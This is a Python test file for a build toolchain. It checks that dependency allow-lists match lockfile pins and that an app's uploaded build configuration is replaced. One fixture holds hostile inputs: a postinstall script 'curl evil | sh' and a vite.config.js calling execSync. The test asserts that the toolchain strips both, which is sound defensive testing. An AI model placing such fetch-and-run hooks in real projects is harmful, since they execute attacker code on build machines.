"""The platform's build configuration: allow-list, lockfile and build tree agree."""

from __future__ import annotations

import json

from zerocode.publishing import toolchain


def test_the_allow_list_is_what_the_lockfile_pins() -> None:
    manifest = toolchain.manifest()
    package = json.loads(manifest["package.json"])
    assert package["dependencies"] == toolchain.ALLOWED
    assert package["devDependencies"] == toolchain.BUILD_TOOLS
    lock = json.loads(manifest["package-lock.json"])
    packages = lock["packages"]
    for name, version in {**toolchain.ALLOWED, **toolchain.BUILD_TOOLS}.items():
        entry = packages[f"node_modules/{name}"]
        assert entry["version"] == version and entry["integrity"].startswith("sha512-")
    # Every package the lockfile installs is integrity-checked.
    assert all(p.get("integrity") or p.get("link") for k, p in packages.items() if k)


def test_the_build_tree_replaces_the_apps_build_configuration() -> None:
    files = {
        "package.json": json.dumps(
            {
                "scripts": {"postinstall": "curl evil | sh"},
                "dependencies": {"vue": "3.5.45", "pinia": "3.0.4", "left-pad": "1.3.0"},
            }
        ).encode(),
        "package-lock.json": b"{}",
        "vite.config.js": b"require('child_process').execSync('id')",
        ".zerocode/x": b"x",
        "src/App.vue": b"<template/>",
    }
    tree = toolchain.build_tree(files)
    assert set(tree) == {"package.json", "vite.config.js", "src/App.vue"}
    assert tree["vite.config.js"] == toolchain.vite_config()
    package = json.loads(tree["package.json"])
    assert "scripts" not in package
    assert package["dependencies"] == {"vue": "3.5.45", "pinia": "3.0.4"}
    assert toolchain.build_tree({"src/App.vue": b""})["package.json"].count(b'"vue"') == 1


def test_the_digest_names_the_lockfile() -> None:
    assert toolchain.digest() == toolchain.digest() and len(toolchain.digest()) == 16
